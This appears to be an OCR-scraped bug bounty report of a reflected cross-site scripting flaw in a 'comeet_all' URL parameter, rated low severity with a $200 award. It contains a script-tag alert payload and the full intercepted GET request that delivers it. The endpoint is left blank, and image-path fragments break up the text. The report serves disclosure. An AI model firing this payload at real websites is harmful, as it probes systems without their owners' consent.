Reflected Cross Site Scripting

  • Reported to Private
  • Reported by Haqtify
  • Low (3.5)
  • $200
  • Published 3 years ago
  • No Likes


Endpoint :



Cross-Site Scripting (XSS) attacks are a type of injection, in which malicious scripts are injected into otherwise benign and trusted web sites. XSS attacks occur when an attacker uses a web application to send malicious code, generally in the form of a browser side script, to a different end user. Flaws that allow these attacks to succeed are quite widespread and occur anywhere a web application uses input from a user within the output it generates without validating or encoding it.Steps To Reproduce:

1. Goto this URL.”><script>alert(1)</script>&comeet_cat=js&comeet_pos=html5shiv.js&pagename=thepeople

2.Intercept the request and insert XSS Payload in ” comeet_all ” parameter.


GET /?rd&comeet_all=all”><script>alert(1)</script>&comeet_cat=js&comeet_pos=html5shiv.js&pagename=thepeople HTTP/1.1
User-Agent: Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:83.0) Gecko/20100101 Firefox/83.0
Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Connection: close
Upgrade-Insecure-Requests: 1
Cache-Control: max-age=0

3. XSS Executed.